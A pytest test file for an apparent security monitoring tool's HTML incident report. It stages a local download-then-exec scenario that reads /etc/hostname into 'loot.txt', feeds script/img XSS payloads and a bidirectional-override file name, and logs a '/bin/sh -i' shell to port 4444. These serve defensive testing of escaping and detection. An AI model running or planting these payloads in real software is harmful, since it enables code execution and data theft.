"""`vigil report`: an incident (download and run a second stage, write a
file, start a child interpreter with hostile arguments) rendered to HTML,
read back by structure, then opened in headless Chromium: the page must
look right in a screenshot (OCR and colours) and must neither run nor
fetch what the logged program planted in its text."""

import html.parser
import http.server
import re
import shutil
import subprocess
import threading

import pytest

from conftest import VIGIL, read_records, write_explained_incident

CHROMIUM = shutil.which("chromium")
TESSERACT = shutil.which("tesseract")

SCENARIO = r"""
import http.server, os, subprocess, sys, threading, urllib.request

stage_two = b"stolen = open('/etc/hostname').read()\n# </pre><script>document.title='pwned'</script>\n"

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(stage_two)
    def log_message(self, *args):
        pass

server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
threading.Thread(target=server.serve_forever, daemon=True).start()
exec(urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}/stage2").read())
server.shutdown()
with open(os.path.join(os.environ["OUT"], "loot.txt"), "w") as out:
    out.write(stolen)
hostile = sys.argv[1]
subprocess.run([sys.executable, "-c", "import socket; socket.socket().connect_ex(('127.0.0.1', 9))", hostile],
               check=True)
"""


class Beacon(http.server.BaseHTTPRequestHandler):
    """Counts requests: the report must never make one."""
    requests = []

    def do_GET(self):
        Beacon.requests.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def beacon():
    server = http.server.HTTPServer(("127.0.0.1", 0), Beacon)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


@pytest.fixture
def incident(vigil_run, script, tmp_path, beacon):
    port = beacon.server_port
    hostile = (f'<img src="http://127.0.0.1:{port}/img" onerror="document.title=\'pwned\'">'
               f"<script>document.title='pwned'</script>\u202eexe.txt")
    result = vigil_run([script(SCENARIO, "incident.py"), hostile], env={"OUT": str(tmp_path)})
    assert result.returncode == 0, result.stderr
    report = tmp_path / "report.html"
    made = subprocess.run([VIGIL, "report", "-o", str(report), str(result.log)], capture_output=True, text=True)
    assert made.returncode == 0, made.stderr
    return read_records(result.log), report, port


class Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []
        self.text = []
        self.sections = {}
        self.current = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append((tag, attrs))
        if tag == "section":
            self.current = attrs.get("id")
            self.sections[self.current] = []

    def handle_data(self, data):
        self.text.append(data)
        if self.current:
            self.sections[self.current].append(data)

    def section(self, name):
        return "".join(self.sections[name])


def parse(report):
    page = Page()
    page.feed(report.read_text())
    return page


def test_report_holds_tree_alerts_activity_and_code(incident):
    records, report, _ = incident
    page = parse(report)
    starts = [r for r in records if r["kind"] == "start"]
    parent, child = starts[0], next(r for r in starts if r["ppid"] == starts[0]["pid"])

    tree = page.section("tree")
    assert f"pid {parent['pid']}" in tree and f"pid {child['pid']}" in tree
    nested = [attrs for tag, attrs in page.tags if tag == "a" and attrs.get("href", "").startswith("#p")]
    assert len(nested) >= 2
    assert "uid 0" in tree and "file" in tree and "command" in tree

    alerts = page.section("alerts")
    rules = {r["rule"] for r in records if r["kind"] == "alert"}
    assert "download-then-exec" in rules
    for rule in rules:
        assert rule in alerts
    links = [attrs["href"] for tag, attrs in page.tags if tag == "a" and "attack.mitre.org" in attrs.get("href", "")]
    assert "https://attack.mitre.org/techniques/T1105/" in links
    # The alert shows the event that raised it: exec of the downloaded text.
    trigger = next(r for r in records if r["kind"] == "event" and r["seq"] == next(
        a["seq_ref"] for a in records if a["kind"] == "alert" and a["rule"] == "download-then-exec")
        and r["pid"] == parent["pid"])
    assert trigger["event"] in alerts

    port = next(r["args"]["fullurl"] for r in records if r.get("event") == "urllib.Request").split(":")[2]
    assert f"127.0.0.1:{port.split('/')[0]}" in page.section("network")
    assert "127.0.0.1:9" in page.section("network")
    assert "loot.txt" in page.section("files") and "open(w)" in page.section("files")
    assert "-c import socket" in page.section("commands")
    code = page.section("code")
    assert "stolen = open('/etc/hostname').read()" in code
    assert "<script>document.title='pwned'</script>" in code  # as text, not markup
    assert f"pid {child['pid']}" in page.section("timelines")


def test_report_is_self_contained_and_inert(incident):
    _, report, port = incident
    page = parse(report)
    assert not [tag for tag, _ in page.tags if tag in ("script", "img", "iframe", "object", "embed", "link")]
    for tag, attrs in page.tags:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        for name in ("src", "href"):
            value = attrs.get(name) or ""
            assert not value or value.startswith("#") or value.startswith("https://attack.mitre.org/"), value
    csp = [a for t, a in page.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
    assert csp and "default-src 'none'" in csp[0]["content"]
    # The bidirectional override is shown, not obeyed.
    assert "\u202e" not in report.read_text() and "\\u202eexe.txt" in report.read_text()


def chromium(*args, tmp_path):
    return subprocess.run([CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--hide-scrollbars",
                           "--no-first-run", f"--user-data-dir={tmp_path / 'chromium-profile'}", *args],
                          capture_output=True, text=True, timeout=120)


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium package is not installed (make deps installs it)")
def test_chromium_renders_the_report_without_running_or_fetching_anything(incident, tmp_path):
    _, report, _ = incident
    Beacon.requests.clear()
    dom = chromium("--dump-dom", "--virtual-time-budget=3000", report.as_uri(), tmp_path=tmp_path)
    assert dom.returncode == 0, dom.stderr
    assert "<title>Vigil incident report</title>" in dom.stdout
    assert "pwned" not in dom.stdout.split("<body>")[0]
    assert "<script" not in dom.stdout.replace("&lt;script", "")
    assert Beacon.requests == []


@pytest.mark.skipif(CHROMIUM is None or TESSERACT is None,
                    reason="Debian's chromium and tesseract-ocr packages are not installed (make deps installs them)")
def test_screenshot_shows_the_alerts_and_the_tree(incident, tmp_path):
    from PIL import Image

    records, report, _ = incident
    shot = tmp_path / "report.png"
    taken = chromium(f"--screenshot={shot}", "--window-size=1400,2600", report.as_uri(), tmp_path=tmp_path)
    assert taken.returncode == 0 and shot.exists(), taken.stderr
    text = subprocess.run([TESSERACT, str(shot), "-", "--psm", "3"], capture_output=True, text=True,
                          timeout=300).stdout
    words = " ".join(text.split())
    for heading in ("Vigil incident report", "Alerts", "Process tree", "Network activity", "File activity"):
        assert heading in words, (heading, words[:2000])
    assert "download" in words and "T1105" in words
    parent = records[0]["pid"]
    assert f"pid {parent}" in words
    # The critical badge (text that arrived over the network, compiled:
    # remote-code) is drawn in its colour.
    image = Image.open(shot).convert("RGB")
    reds = sum(1 for pixel in image.getdata() if pixel == (0x8B, 0x00, 0x16))
    assert reds > 200, reds


def test_report_explains_alerts_with_links_to_the_events_behind_them(tmp_path):
    child_log, parent_log = write_explained_incident(tmp_path)
    report = tmp_path / "report.html"
    made = subprocess.run([VIGIL, "report", "-o", str(report), str(child_log), str(parent_log)],
                          capture_output=True, text=True, timeout=60)
    assert made.returncode == 0, made.stderr
    page = parse(report)
    alerts = page.section("alerts")
    assert "Subject: /bin/sh -i <script>x</script>\\x1b[2J" in alerts  # as text, escaped
    assert not [tag for tag, _ in page.tags if tag == "script"]
    assert "Because:" in alerts and "net.connected" in alerts and "code.compiled" in alerts
    assert "in its parent, pid 100, seq 2: socket.connect 127.0.0.1:4444 at /srv/stage1.py:7" in alerts
    assert "seq 2: compile import os; os.system('/bin/sh -i') at <string>:1" in alerts
    assert "in its parent, pid 100, seq 77: not in the logs read" in alerts
    # Each resolved fact links to its event's row in its process's timeline.
    text = report.read_text()
    links = re.findall(r'<a href="#(p\d+-e\d+)">([^<]*)</a>', text)
    assert [label for _, label in links] == ["in its parent, pid 100, seq 2", "seq 2"]
    for anchor, label in links:
        row = re.search(rf'<tr id="{anchor}">(.*?)</tr>', text)
        assert row, anchor
        assert ("socket.connect" if "parent" in label else "compile") in row.group(1)
    parent_anchor = links[0][0].split("-")[0]
    assert re.search(rf'<details id="{parent_anchor}"[^>]*><summary>pid 100 ', text)
    # The alert from an older log has neither.
    assert alerts.count("Because:") == 1 and alerts.count("Subject:") == 1


def test_report_shows_the_parent_of_a_chain_left_out_by_tree(tmp_path):
    child_log, parent_log = write_explained_incident(tmp_path)
    report = tmp_path / "report.html"
    made = subprocess.run([VIGIL, "report", "--tree", "101", "-o", str(report), str(parent_log), str(child_log)],
                          capture_output=True, text=True, timeout=60)
    assert made.returncode == 0, made.stderr
    alerts = parse(report).section("alerts")
    # Resolved from the records --tree leaves out, without a link to a process not in the report.
    assert "in its parent, pid 100, seq 2: socket.connect 127.0.0.1:4444 at /srv/stage1.py:7" in alerts
    facts = re.findall(r"<li>(.*?)</li>", re.search(r'<ol class="because">(.*?)</ol>', report.read_text()).group(1))
    assert "net.connected" in facts[0] and "<a " not in facts[0]
    assert "code.compiled" in facts[1] and '<a href="#p0-e2">seq 2</a>' in facts[1]
